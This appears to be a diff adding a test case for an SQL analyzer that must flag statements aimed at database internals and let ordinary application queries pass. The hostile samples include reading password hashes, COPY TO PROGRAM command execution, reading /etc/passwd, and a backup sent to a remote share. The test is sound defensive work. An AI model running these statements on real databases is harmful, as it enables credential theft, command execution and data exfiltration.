@@ -158,3 +158,22 @@ test('SQL analysis stays linear on long adversarial input', () => {
     assert.ok(performance.now() - t < 1000)
   }
 })
+
+test('SQL: a statement aimed at the database internals blocks, a snippet of app queries does not (issue 3)', () => {
+  const failures: string[] = []
+  for (const value of [
+    'select * from pg_shadow;', "select current_setting('data_directory');", 'select * from master..sysservers', 'SELECT user, authentication_string FROM mysql.user',
+    "COPY (SELECT '') TO PROGRAM 'id'", "copy secrets to '/tmp/out.csv';", "BACKUP DATABASE master TO DISK = '\\\\203.0.113.5\\share\\m.bak'", 'SELECT pg_read_file(\'/etc/passwd\')',
+  ]) {
+    const f = analyzeSql(value)
+    if (f === null || f.confidence < 0.8) failures.push(`missed: ${value} ${f?.rule} ${f?.confidence}`)
+  }
+  for (const value of [
+    'SELECT id, name FROM customers WHERE country = :country ORDER BY created_at DESC LIMIT 20;', 'SELECT COUNT(*) FROM orders;', 'select version();',
+    'Copy it to the Downloads folder', 'backup database nightly to disk', 'SELECT * FROM users WHERE role = \'admin\';',
+  ]) {
+    const f = analyzeSql(value)
+    if (f !== null && f.confidence >= 0.8) failures.push(`blocked: ${value} ${f.rule} ${f.confidence}`)
+  }
+  assert.deepEqual(failures, [])
+})
